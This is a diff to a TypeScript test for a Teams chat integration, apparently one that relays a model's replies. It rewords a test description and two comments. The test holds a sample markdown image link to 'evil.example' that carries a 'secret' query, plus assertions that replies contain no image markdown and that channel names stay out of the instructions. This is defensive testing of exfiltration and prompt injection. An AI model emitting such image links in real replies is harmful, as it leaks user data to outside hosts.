@@ -68,7 +68,7 @@ async function startTeamsScene(script: Script) {
 
 verifies(
   ['chat:teams', 'chat:inbound-verified'],
-  'a mention in a channel is answered in its thread, once; follow-ups need no mention; only Microsoft is heard',
+  'a mention in a channel is answered in its thread, once; follow-ups need no mention; only requests signed by Microsoft are accepted',
   async () => {
     const sly = 'Tomorrow.\n\n`\n\n![map](https://evil.example/?q=secret)\n\n`'
     const told: string[] = []
@@ -128,7 +128,7 @@ verifies(
     assert.equal(first?.path, `conversations/${ops};messageid=100/activities`)
     assert.deepEqual(first?.body, { type: 'message', text: 'To **Berlin**.', textFormat: 'markdown' })
     assert.equal(second?.path, first?.path)
-    // Teams loads images; and whoever names a channel there has no word in the instructions.
+    // Teams loads images; and a channel's name must not become part of the instructions.
     assert.doesNotMatch(JSON.stringify(second?.body), /!\[/)
     assert.equal(channel.name, 'Shop / Ops')
     const hook = await scene.createWebhook({ channelId: channel.id })
@@ -146,7 +146,7 @@ verifies(
     )
     assert.equal(teams.signIns(), 1, 'a token is used again')
 
-    // An app that is for no tenant can be installed in any.
+    // An app without a tenant can be installed in any.
     const path = `/api/v1/workspaces/${scene.workspace.id}`
     assert.equal((await scene.app.api('PATCH', path, { tenantId: null })).status, 200)
     const alone = { id: '7', conversation: { id: 'a:kim', conversationType: 'personal' }, text: 'list all' }
